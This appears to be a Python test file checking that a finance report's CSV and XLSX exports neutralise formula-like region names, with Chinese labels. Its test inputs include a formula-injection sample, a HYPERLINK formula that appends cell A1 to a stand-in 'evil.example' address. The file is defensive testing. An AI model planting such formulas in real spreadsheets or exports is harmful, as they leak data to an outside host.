"""Exports never hand a spreadsheet a formula: text that starts like one (=, +, -, @) gets a quote in front in CSV
and XLSX alike, every XLSX text cell is a string, and amounts stay numbers. The project and award reports:
tests/implementation/test_project_report.py and tests/awards/test_award_runs.py."""

import csv
import io

import openpyxl

from tests.programmes.helpers import API, YEAR, ok

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+86 莲花街道", "-莲花", "@SUM(1+1)"]


async def _rename(client, world, name: str) -> None:
    ok(await client.patch(f"{API}/regions/{world.tree.street_a.id}", headers=world.h["district"], json={"name": name}))


async def _finance(client, world, fmt: str):
    r = await client.get(
        f"{API}/funds/reports",
        headers=world.h["finance"],
        params={"group_by": "street", "as_of": f"{YEAR}-12-31", "format": fmt},
    )
    assert r.status_code == 200, r.text
    return r


async def test_finance_report_csv_quotes_formula_like_text(client, world):
    for name in NAMES:
        await _rename(client, world, name)
        r = await _finance(client, world, "csv")
        labels = [row[0] for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig")))]
        assert "'" + name in labels and name not in labels, (name, labels)
        assert "香蜜湖街道" in labels and "合计" in labels  # ordinary text unchanged


async def test_finance_report_xlsx_writes_text_as_strings_never_formulas(client, world):
    await _rename(client, world, NAMES[0])
    r = await _finance(client, world, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    labels = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + NAMES[0] in labels and NAMES[0] not in labels
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    amounts = [c.value for c in book["财务报表"][2][1:]]
    assert all(isinstance(v, int | float) or v is None for v in amounts)
